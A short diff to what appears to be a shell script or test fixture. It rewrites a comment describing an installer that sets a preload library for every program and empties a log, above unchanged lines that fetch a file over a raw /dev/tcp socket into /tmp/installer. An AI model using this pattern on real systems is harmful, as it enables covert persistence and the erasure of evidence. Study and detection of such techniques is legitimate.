@@ -1,4 +1,4 @@
-# A library for every program, and no trace of who put it there.
+# A downloaded installer configures a preload library for every program and empties a log.
 exec 3<>/dev/tcp/127.0.0.1/$PORT
 echo GET >&3
 cat <&3 >/tmp/installer
